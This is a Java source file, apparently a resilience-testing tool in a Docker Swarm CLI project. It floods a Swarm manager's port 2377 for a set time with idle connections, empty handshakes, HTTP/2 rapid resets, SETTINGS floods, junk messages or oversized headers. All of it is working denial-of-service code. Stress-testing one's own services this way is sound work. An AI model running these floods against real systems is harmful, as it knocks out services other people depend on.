package dev.swarm.cli.hostile;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.net.InetAddress;
import java.net.Socket;
import java.nio.ByteBuffer;
import java.time.Duration;
import java.util.concurrent.atomic.AtomicLong;
import java.util.concurrent.locks.LockSupport;

/**
 * A program that attacks one manager in one way for a bounded time: {@code Flood KIND ADDRESS
 * SECONDS}. A few threads, each one connection after the other.
 */
public final class Flood {
  private static final String ROOT = "/docker.swarmkit.v1.CA/GetRootCACertificate";
  private static final int PORT = 2377;
  private static final int THREADS = 4;
  private static final int FRAMES_MAX = 20_000;

  /** Of each thread; a stranger's machine is not this one's two processors. */
  private static final Duration PAUSE = Duration.ofMillis(10);

  /** What is done to a manager. */
  enum Kind {
    /** Connections that say nothing, and are left. */
    CONNECTIONS {
      @Override
      void attack(InetAddress manager) throws IOException {
        new Socket(manager, PORT).close();
      }
    },
    /** Handshakes, and then nothing. */
    HANDSHAKES {
      @Override
      void attack(InetAddress manager) throws IOException {
        RawPeer.connect(manager, PORT, new byte[0]).close();
      }
    },
    /** Calls taken back as soon as they are made. */
    RESETS {
      @Override
      void attack(InetAddress manager) throws IOException {
        byte[] cancel = ByteBuffer.allocate(4).putInt(8).array();
        try (RawPeer peer = RawPeer.connect(manager, PORT, new byte[0])) {
          for (int stream = 1; stream < FRAMES_MAX; stream += 2) {
            peer.call(stream, ROOT);
            peer.frame(RawPeer.RESET, 0, stream, cancel);
          }
        }
      }
    },
    /** Settings that change nothing and want to be answered. */
    SETTINGS {
      @Override
      void attack(InetAddress manager) throws IOException {
        try (RawPeer peer = RawPeer.connect(manager, PORT, new byte[0])) {
          for (int i = 0; i < FRAMES_MAX; i++) {
            peer.frame(RawPeer.SETTINGS, 0, 0, new byte[0]);
          }
        }
      }
    },
    /** Messages that are none. */
    NOISE {
      @Override
      void attack(InetAddress manager) throws IOException {
        byte[] noise = new byte[900];
        java.util.Arrays.fill(noise, (byte) 0xff);
        try (RawPeer peer = RawPeer.connect(manager, PORT, new byte[0])) {
          for (int stream = 1; stream < FRAMES_MAX; stream += 2) {
            peer.call(stream, ROOT);
            peer.message(stream, noise.length, noise, true);
          }
        }
      }
    },
    /** Calls that are never ended, with headers as long as they may be. */
    STREAMS {
      @Override
      void attack(InetAddress manager) throws IOException {
        ByteArrayOutputStream headers = new ByteArrayOutputStream();
        headers.writeBytes(RawPeer.headers(ROOT));
        RawPeer.literal(headers, "x-long", "x".repeat(4000));
        try (RawPeer peer = RawPeer.connect(manager, PORT, new byte[0])) {
          for (int stream = 1; stream < FRAMES_MAX; stream += 2) {
            peer.frame(RawPeer.HEADERS, RawPeer.END_HEADERS, stream, headers.toByteArray());
          }
        }
      }
    };

    abstract void attack(InetAddress manager) throws IOException;
  }

  private Flood() {}

  /** Prints how many attempts there were, and how many of them were cut off. */
  @SuppressWarnings("SystemOut")
  public static void main(String[] arguments) throws IOException, InterruptedException {
    Kind kind = Kind.valueOf(arguments[0]);
    InetAddress manager = InetAddress.getByName(arguments[1]);
    long end = System.nanoTime() + Duration.ofSeconds(Integer.parseInt(arguments[2])).toNanos();
    AtomicLong attempts = new AtomicLong();
    AtomicLong cut = new AtomicLong();
    Thread[] threads = new Thread[THREADS];
    for (int i = 0; i < THREADS; i++) {
      threads[i] =
          Thread.ofPlatform()
              .start(
                  () -> {
                    while (System.nanoTime() < end) {
                      attempts.incrementAndGet();
                      try {
                        kind.attack(manager);
                      } catch (IOException e) {
                        cut.incrementAndGet();
                      }
                      LockSupport.parkNanos(PAUSE.toNanos());
                    }
                  });
    }
    System.out.println("begun");
    for (Thread thread : threads) {
      thread.join();
    }
    System.out.println(kind + ": " + attempts + " attempts, " + cut + " cut off");
  }
}
